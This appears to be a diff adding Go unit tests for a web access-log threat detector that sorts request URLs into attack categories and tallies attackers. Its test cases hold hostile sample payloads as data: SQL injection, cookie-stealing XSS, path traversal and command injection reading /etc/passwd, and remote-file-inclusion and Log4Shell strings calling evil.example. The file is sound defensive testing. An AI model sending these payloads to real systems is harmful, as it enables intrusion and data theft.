@@ -0,0 +1,160 @@
+package security
+
+import (
+	"testing"
+	"time"
+
+	"access-log-analyzer/internal/models"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// ruleIDs 取得 URL 命中的規則代碼
+func ruleIDs(d *ThreatDetector, rawURL string) []string {
+	var ids []string
+	for _, rule := range d.Match(rawURL) {
+		ids = append(ids, rule.ID)
+	}
+	return ids
+}
+
+// TestThreatDetector_攻擊特徵 測試各類攻擊特徵的偵測
+func TestThreatDetector_攻擊特徵(t *testing.T) {
+	detector := NewThreatDetector()
+
+	testCases := []struct {
+		name     string
+		url      string
+		expected string
+	}{
+		{"UNION SELECT", "/item.php?id=1+UNION+ALL+SELECT+username,password+FROM+users", "sqli-union"},
+		{"UNION 註解繞過", "/item.php?id=1/**/union/**/select/**/1,2", "sqli-union"},
+		{"恆真條件", "/login?user=admin'%20OR%20'1'='1", "sqli-tautology"},
+		{"延遲注入", "/item?id=1%20AND%20SLEEP(5)", "sqli-function"},
+		{"Script 標籤", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss-script"},
+		{"事件處理器", "/search?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E", "xss-handler"},
+		{"目錄穿越", "/download?file=../../../../etc/passwd", "path-traversal"},
+		{"雙重編碼的目錄穿越", "/static/%252e%252e%252f%252e%252e%252fetc/passwd", "path-traversal"},
+		{"本機檔案引入", "/index.php?page=php://filter/convert.base64-encode/resource=index", "lfi"},
+		{"遠端檔案引入", "/index.php?page=http://evil.example/shell.txt?", "rfi"},
+		{"命令注入", "/ping?host=127.0.0.1;cat%20/etc/passwd", "cmd-injection"},
+		{"命令替換", "/cgi-bin/test?x=$(whoami)", "cmd-injection"},
+		{"Log4Shell", "/?x=${jndi:ldap://evil.example/a}", "log4shell"},
+		{"混淆的 Log4Shell", "/?x=%24%7B%24%7Blower:j%7Dndi:ldap://evil.example/a%7D", "log4shell"},
+		{".env", "/.env", "probe-env"},
+		{".git", "/.git/config", "probe-vcs"},
+		{"WordPress 登入", "/wp-login.php", "probe-wordpress"},
+		{"phpMyAdmin", "/phpmyadmin/", "probe-config"},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			assert.Contains(t, ruleIDs(detector, tc.url), tc.expected)
+		})
+	}
+}
+
+// TestThreatDetector_正常請求 測試一般請求不會被誤判
+func TestThreatDetector_正常請求(t *testing.T) {
+	detector := NewThreatDetector()
+
+	urls := []string{
+		"/",
+		"/index.html",
+		"/api/v1/users/123/profile?page=3&sort=name&id=5",
+		"/search?q=coffee+or+tea",
+		"/search?q=rock%20%26%20roll",
+		"/blog/2024/01/select-the-right-union-plan",
+		"/static/app.min.js?v=1.2.3",
+		"/images/logo.png",
+		"/docs/environment-variables",
+		"/login?redirect=%2Fdashboard",
+		"/.well-known/security.txt",
+		"-",
+		"",
+	}
+
+	for _, u := range urls {
+		t.Run(u, func(t *testing.T) {
+			assert.Empty(t, ruleIDs(detector, u))
+		})
+	}
+}
+
+// TestThreatDetector_統計 測試規則命中次數、攻擊來源與範例請求
+func TestThreatDetector_統計(t *testing.T) {
+	detector := NewThreatDetector()
+	base := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
+
+	entries := []models.LogEntry{
+		{LineNumber: 1, IP: "203.0.113.5", Timestamp: base, Method: "GET", URL: "/.env", StatusCode: 404, RawLine: "line 1"},
+		{LineNumber: 2, IP: "203.0.113.5", Timestamp: base.Add(time.Second), Method: "GET", URL: "/.git/HEAD", StatusCode: 200, RawLine: "line 2"},
+		{LineNumber: 3, IP: "203.0.113.5", Timestamp: base.Add(2 * time.Second), Method: "GET", URL: "/.env.bak", StatusCode: 404, RawLine: "line 3"},
+		{LineNumber: 4, IP: "198.51.100.9", Timestamp: base.Add(time.Minute), Method: "GET", URL: "/item?id=1%27%20UNION%20SELECT%201--", StatusCode: 200, RawLine: "line 4"},
+		{LineNumber: 5, IP: "192.0.2.1", Timestamp: base, Method: "GET", URL: "/index.html", StatusCode: 200, RawLine: "line 5"},
+	}
+
+	for i := range entries {
+		categories := detector.Observe(&entries[i])
+		if i == 4 {
+			assert.Nil(t, categories, "正常請求不應回報攻擊類別")
+		}
+	}
+
+	stats := detector.GetStats()
+	assert.Equal(t, 4, stats.AttackRequests)
+	assert.Equal(t, 2, stats.SuccessfulRequests)
+	assert.Equal(t, 2, stats.AttackerCount)
+	assert.Equal(t, 3, stats.Categories[CategorySensitiveProbe])
+	assert.Equal(t, 1, stats.Categories[CategorySQLInjection])
+
+	require.NotEmpty(t, stats.Rules)
+	envRule := stats.Rules[0]
+	assert.Equal(t, "probe-env", envRule.ID, "依命中次數降序")
+	assert.Equal(t, 2, envRule.Hits)
+	assert.Equal(t, 0, envRule.Successful)
+	assert.Equal(t, 1, envRule.DistinctIPs)
+	require.Len(t, envRule.Examples, 2)
+	assert.Equal(t, 1, envRule.Examples[0].LineNumber)
+	assert.Equal(t, "line 1", envRule.Examples[0].RawLine)
+
+	require.Len(t, stats.Attackers, 2)
+	assert.Equal(t, AttackerStat{
+		IP:         "203.0.113.5",
+		Hits:       3,
+		Successful: 1,
+		Categories: []string{CategorySensitiveProbe},
+		FirstSeen:  base,
+		LastSeen:   base.Add(2 * time.Second),
+	}, stats.Attackers[0])
+
+	detector.ResetStats()
+	stats = detector.GetStats()
+	assert.Equal(t, 0, stats.AttackRequests)
+	assert.Empty(t, stats.Rules)
+	assert.Empty(t, stats.Attackers)
+}
+
+// TestThreatDetector_範例優先保留成功請求 測試範例已滿時以 2xx 的請求取代
+func TestThreatDetector_範例優先保留成功請求(t *testing.T) {
+	detector := NewThreatDetector()
+	for i := 0; i < maxExamplesPerRule; i++ {
+		detector.Observe(&models.LogEntry{IP: "203.0.113.5", URL: "/wp-login.php", StatusCode: 404, LineNumber: i + 1})
+	}
+	detector.Observe(&models.LogEntry{IP: "203.0.113.5", URL: "/wp-login.php", StatusCode: 200, LineNumber: 99})
+
+	stats := detector.GetStats()
+	require.Len(t, stats.Rules, 1)
+	examples := stats.Rules[0].Examples
+	require.Len(t, examples, maxExamplesPerRule)
+	assert.Equal(t, 99, examples[0].LineNumber)
+	assert.True(t, examples[0].Successful)
+}
+
+// TestDecodeVariants 測試多重 URL 解碼
+func TestDecodeVariants(t *testing.T) {
+	assert.Equal(t, []string{"/a%252e", "/a%2e", "/a."}, decodeVariants("/a%252e"))
+	assert.Equal(t, []string{"/plain"}, decodeVariants("/plain"))
+	assert.Equal(t, []string{"/a%zz%2e", "/a%zz."}, decodeVariants("/a%zz%2e"), "無效的 % 序列保留原樣")
+}